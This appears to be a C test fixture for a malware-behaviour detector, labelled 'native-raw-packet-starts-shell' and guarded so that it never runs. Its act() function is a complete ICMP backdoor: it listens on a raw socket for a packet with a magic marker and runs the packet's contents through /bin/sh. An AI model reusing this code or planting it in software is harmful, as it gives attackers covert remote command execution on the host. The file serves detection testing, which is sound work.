/* Raw packets are listened to, and one of them starts a shell.
 * expect: native-raw-packet-starts-shell
 * flags: -O2
 * flags: -O0
 */
#include <arpa/inet.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    char packet[1500];
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    for (;;) {
        int n = recv(s, packet, sizeof packet - 1, 0);
        if (n < 40 || memcmp(packet + 28, "\x9a\x12zz", 4))
            continue;
        packet[n] = 0;
        if (fork() == 0)
            execl("/bin/sh", "sh", "-c", packet + 32, (char *)0);
    }
}

int main(void) { return never ? act() : 0; }
